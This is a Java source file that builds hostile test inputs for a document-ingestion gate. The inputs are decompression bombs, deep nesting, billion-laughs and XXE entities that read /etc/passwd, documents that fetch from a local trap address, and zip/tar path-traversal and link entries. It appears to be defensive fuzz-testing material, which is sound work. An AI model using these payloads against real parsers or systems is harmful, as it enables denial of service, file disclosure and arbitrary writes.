package cotejo.gate.hostile;

import static java.nio.charset.StandardCharsets.US_ASCII;
import static java.nio.charset.StandardCharsets.UTF_8;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.LinkedHashMap;
import java.util.Map;

/// Files made to do harm: to take all memory or time, to have something fetched or written, to be opened without end.
///
/// @param trap an address that nobody may ask for: "127.0.0.1:40123"
/// @param canary the name of a file that nobody may make
record Bad(String trap, String canary) {
    private static final int DEEP = 10_000;
    /// Each is written around the one before, so making them takes the square of their number.
    private static final int DEEP_ARCHIVES = 2_000;
    private static final int MEGABYTE = 1 << 20;

    /// By name.
    Map<String, byte[]> files() throws IOException {
        Map<String, byte[]> files = new LinkedHashMap<>();
        bombs(files);
        deep(files);
        entities(files);
        fetching(files);
        traversal(files);
        odd(files);
        return files;
    }

    private void bombs(Map<String, byte[]> files) throws IOException {
        files.put("bomb.gz", Forged.packed(512));
        files.put("bomb.zip", Forged.zip(Map.of("zeros.txt", new Forged.Zeros(512))));
        files.put("bomb-many.zip", Forged.many(30_000));
        byte[] nested = Forged.zip(Map.of("zeros.txt", new Forged.Zeros(128)));
        for (int i = 0; i < 4; i++) {
            Map<String, Forged.Content> copies = new LinkedHashMap<>();
            for (int j = 0; j < 16; j++) {
                copies.put("copy-" + j + ".zip", new Forged.Bytes(nested));
            }
            nested = Forged.zip(copies);
        }
        files.put("bomb-nested.zip", nested);
        files.put("bomb.docx", Forged.office("word/document.xml", new Forged.Zeros(512)));
        files.put("bomb.xlsx", Forged.office("xl/workbook.xml", new Forged.Zeros(512)));
        files.put("bomb.odt", Forged.openDocument("text", new Forged.Zeros(512)));
        files.put(
                "bomb.ods",
                Forged.openDocument("spreadsheet", new Forged.Bytes(repeated().getBytes(UTF_8))));
        files.put("bomb.png", Forged.png(100_000, 100_000));
        files.put("bomb.pdf", Forged.pdf("<< /Length 10 >> stream\n" + "q ".repeat(2 * MEGABYTE) + "\nendstream"));
        files.put("long-line.txt", "palabra ".repeat(4 * MEGABYTE).getBytes(UTF_8));
        files.put("no-space.txt", "a".repeat(8 * MEGABYTE).getBytes(UTF_8));
        files.put("digits.txt", ("Se perdieron " + "9".repeat(2 * MEGABYTE) + " soldados.\n").getBytes(UTF_8));
        files.put("lines.txt", "7\n".repeat(3 * MEGABYTE).getBytes(UTF_8));
        files.put("columns.csv", (",".repeat(3 * MEGABYTE) + "\n1,2\n").getBytes(UTF_8));
    }

    private void deep(Map<String, byte[]> files) throws IOException {
        files.put(
                "deep.html",
                ("<html><body>" + "<div>".repeat(DEEP) + "7 soldiers" + "</div>".repeat(DEEP)).getBytes(UTF_8));
        files.put("deep-tables.html", ("<table><tr><td>".repeat(DEEP) + "7 soldiers").getBytes(UTF_8));
        files.put("deep.jsonl", ("{\"text\":" + "[".repeat(DEEP) + "]".repeat(DEEP) + "}\n").getBytes(UTF_8));
        files.put(
                "deep.rtf", ("{\\rtf1 " + "{".repeat(DEEP) + "7 soldiers" + "}".repeat(DEEP) + "}").getBytes(US_ASCII));
        files.put(
                "deep.odt",
                Forged.openDocument(
                        "text",
                        new Forged.Bytes(
                                ("<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
                                                + " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\">"
                                                + "<text:span>".repeat(DEEP) + "7" + "</text:span>".repeat(DEEP)
                                                + "</office:document-content>")
                                        .getBytes(UTF_8))));
        files.put("deep.pdf", Forged.pdf("[".repeat(DEEP) + "]".repeat(DEEP)));
        byte[] inner = "7 soldiers deserted.\n".getBytes(UTF_8);
        for (int i = 0; i < DEEP_ARCHIVES; i++) {
            inner = Forged.stored(i == 0 ? "a.txt" : "a.zip", inner);
        }
        files.put("deep.zip", inner);
        StringBuilder mail = new StringBuilder("Subject: deep\r\nMIME-Version: 1.0\r\n");
        for (int i = 0; i < 2_000; i++) {
            mail.append("Forged.Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n".formatted(i, i));
        }
        files.put(
                "deep.eml",
                mail.append("Forged.Content-Type: text/plain\r\n\r\n7 soldiers\r\n")
                        .toString()
                        .getBytes(US_ASCII));
    }

    private void entities(Map<String, byte[]> files) throws IOException {
        String laughs = "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY a \"ha\">"
                + "<!ENTITY b \"&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;\"><!ENTITY c \"&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;\">"
                + "<!ENTITY d \"&c;&c;&c;&c;&c;&c;&c;&c;&c;&c;\"><!ENTITY e \"&d;&d;&d;&d;&d;&d;&d;&d;&d;&d;\">"
                + "<!ENTITY f \"&e;&e;&e;&e;&e;&e;&e;&e;&e;&e;\"><!ENTITY g \"&f;&f;&f;&f;&f;&f;&f;&f;&f;&f;\">"
                + "<!ENTITY h \"&g;&g;&g;&g;&g;&g;&g;&g;&g;&g;\">]><l>&h;&h;&h;&h;</l>";
        String outside = "<?xml version=\"1.0\"?><!DOCTYPE l [<!ENTITY % x SYSTEM \"http://" + trap
                + "/x.dtd\"> %x;<!ENTITY f SYSTEM \"file:///etc/passwd\">]><l>&f;</l>";
        for (Map.Entry<String, String> each :
                Map.of("laughs", laughs, "outside", outside).entrySet()) {
            Forged.Content bytes = new Forged.Bytes(each.getValue().getBytes(UTF_8));
            files.put(each.getKey() + ".xml", bytes.bytes());
            files.put(each.getKey() + ".xhtml", bytes.bytes());
            files.put(each.getKey() + ".svg", bytes.bytes());
            files.put(each.getKey() + ".docx", Forged.office("word/document.xml", bytes));
            files.put(each.getKey() + ".xlsx", Forged.office("xl/workbook.xml", bytes));
            files.put(each.getKey() + ".odt", Forged.openDocument("text", bytes));
            files.put(each.getKey() + ".ods", Forged.openDocument("spreadsheet", bytes));
        }
    }

    private void fetching(Map<String, byte[]> files) throws IOException {
        String at = "http://" + trap + "/";
        files.put(
                "fetch.html",
                ("<html><head><base href='" + at + "'><link rel=stylesheet href='" + at + "a.css'>"
                                + "<meta http-equiv=refresh content='0;url=" + at + "'><script src='" + at
                                + "a.js'></script></head><body><iframe src='" + at + "'></iframe><img src='" + at
                                + "a.png'><p>Some 7 soldiers deserted in 2010, the ministry said.</p></body></html>")
                        .getBytes(UTF_8));
        files.put(
                "fetch.rtf",
                ("{\\rtf1 {\\field{\\*\\fldinst INCLUDEPICTURE \"" + at + "a.png\"}}{\\*\\template " + at
                                + "a.dotx} 7 soldiers deserted.}")
                        .getBytes(US_ASCII));
        files.put("fetch.pdf", Forged.pdf("<< /Type /Action /S /URI /URI (" + at + ") >>"));
        files.put(
                "fetch.docx",
                Forged.zip(Forged.ordered(
                        "[Content_Types].xml",
                        "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"rels\""
                                + " ContentType=\"application/vnd.openxmlformats-package.relationships+xml\"/><Override"
                                + " PartName=\"/word/document.xml\" ContentType=\"application/vnd.openxmlformats-officedocument."
                                + "wordprocessingml.document.main+xml\"/></Types>",
                        "_rels/.rels",
                        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
                                + " Id=\"r1\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                                + "officeDocument\" Target=\"word/document.xml\"/></Relationships>",
                        "word/_rels/document.xml.rels",
                        "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship"
                                + " Id=\"r2\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/"
                                + "attachedTemplate\" Target=\"" + at
                                + "a.dotm\" TargetMode=\"External\"/></Relationships>",
                        "word/document.xml",
                        "<w:document xmlns:w=\"http://schemas.openxmlformats.org/wordprocessingml/2006/main\"><w:body><w:p><w:r>"
                                + "<w:t>Some 7 soldiers deserted in 2010.</w:t></w:r></w:p></w:body></w:document>")));
        files.put(
                "fetch.eml",
                ("Subject: fetch\r\nMIME-Version: 1.0\r\nContent-Type: message/external-body; access-type=URL; URL=\""
                                + at + "\"\r\n\r\nContent-Type: text/plain\r\n\r\n")
                        .getBytes(US_ASCII));
        files.put(
                "fetch.mhtml",
                ("MIME-Version: 1.0\r\nContent-Type: multipart/related; boundary=b\r\nContent-Location: " + at
                                + "\r\n\r\n--b\r\nContent-Type: text/html\r\nContent-Location: " + at
                                + "\r\n\r\n<html><body><img src='" + at
                                + "x.png'><p>7 soldiers deserted.</p></body></html>\r\n--b--\r\n")
                        .getBytes(US_ASCII));
    }

    private void traversal(Map<String, byte[]> files) throws IOException {
        byte[] text = "Some 7 soldiers deserted in 2010, the ministry said.\n".getBytes(UTF_8);
        Map<String, Forged.Content> names = new LinkedHashMap<>();
        for (String name : new String[] {
            "../" + canary,
            "../../../../../../../../tmp/" + canary,
            "/tmp/" + canary,
            "..\\..\\" + canary,
            "C:\\" + canary,
            "a/../../" + canary,
            "./" + canary,
            "CON",
            "nul.txt",
            "a\u0000b.txt",
            "\u202Etxt.exe",
            "a".repeat(300)
        }) {
            names.put(name, new Forged.Bytes(text));
        }
        files.put("traversal.zip", Forged.zip(names));
        ByteArrayOutputStream tar = new ByteArrayOutputStream();
        Forged.tarEntry(tar, "../../../../tmp/" + canary, '0', "", text);
        Forged.tarEntry(tar, "link", '2', "/tmp", new byte[0]);
        Forged.tarEntry(tar, "link/" + canary, '0', "", text);
        Forged.tarEntry(tar, "hard", '1', "/etc/passwd", new byte[0]);
        Forged.tarEntry(tar, "device", '3', "", new byte[0]);
        Forged.tarEntry(tar, "fifo", '6', "", new byte[0]);
        tar.write(new byte[1_024]);
        files.put("traversal.tar", tar.toByteArray());
        files.put(
                "traversal.eml",
                ("Subject: names\r\nMIME-Version: 1.0\r\nContent-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
                                + "Forged.Content-Type: text/plain; name=\"../../../../tmp/" + canary
                                + "\"\r\nContent-Disposition: attachment; filename=\"/tmp/" + canary
                                + "\"\r\n\r\n7 soldiers deserted.\r\n--b--\r\n")
                        .getBytes(US_ASCII));
    }

    private void odd(Map<String, byte[]> files) throws IOException {
        files.put("nothing.zip", Forged.zip(Map.of()));
        files.put("text-in-zip-clothes.zip", "PK\u0003\u0004 but no archive\n".getBytes(US_ASCII));
        files.put(
                "zip-in-text-clothes.txt",
                Forged.zip(Map.of("a.txt", new Forged.Bytes("7 soldiers deserted.\n".getBytes(UTF_8)))));
        files.put("program.pdf", "\u007fELF\u0002\u0001\u0001".getBytes(US_ASCII));
        files.put("nul.txt", new byte[4_096]);
        files.put(
                "controls.txt", "7 \u001b[31msoldiers\u001b[0m \u202edeserted\u202c \u0007in 2010.\n".getBytes(UTF_8));
        files.put("half-pairs.txt", new byte[] {'7', ' ', (byte) 0xed, (byte) 0xa0, (byte) 0x80, ' ', 's', '\n'});
        files.put("locked.zip", Forged.locked());
        files.put(
                "boundary.eml",
                "MIME-Version: 1.0\r\nContent-Type: multipart/mixed\r\n\r\nno boundary\r\n".getBytes(US_ASCII));
        files.put(
                "headers.eml",
                ("Subject: x\r\n" + "X-A: b\r\n".repeat(100_000) + "\r\n7 soldiers\r\n").getBytes(US_ASCII));
        files.put("from.mbox", "From \nFrom \nFrom x\n\n\nFrom y\n".repeat(500).getBytes(US_ASCII));
        files.put(
                "torn.warc",
                "WARC/1.0\r\nWARC-Type: response\r\nContent-Length: 99999999999\r\n\r\nHTTP/1.1 200 OK\r\n\r\n<p>7"
                        .getBytes(US_ASCII));
        files.put(
                "lies.jsonl",
                "{\"text\": 7}\nnull\n[]\n{\"text\":\"7 soldiers deserted.\",\"published\":\"soon\"}\n{\"text\""
                        .getBytes(UTF_8));
    }

    /// A sheet that says it repeats one cell over all of it.
    private static String repeated() {
        return "<office:document-content xmlns:office=\"urn:oasis:names:tc:opendocument:xmlns:office:1.0\""
                + " xmlns:table=\"urn:oasis:names:tc:opendocument:xmlns:table:1.0\""
                + " xmlns:text=\"urn:oasis:names:tc:opendocument:xmlns:text:1.0\"><office:body><office:spreadsheet>"
                + "<table:table table:name=\"a\"><table:table-row table:number-rows-repeated=\"1048576\">"
                + "<table:table-cell table:number-columns-repeated=\"16384\" office:value-type=\"float\" office:value=\"7\">"
                + "<text:p>7</text:p></table:table-cell></table:table-row></table:table></office:spreadsheet>"
                + "</office:body></office:document-content>";
    }
}
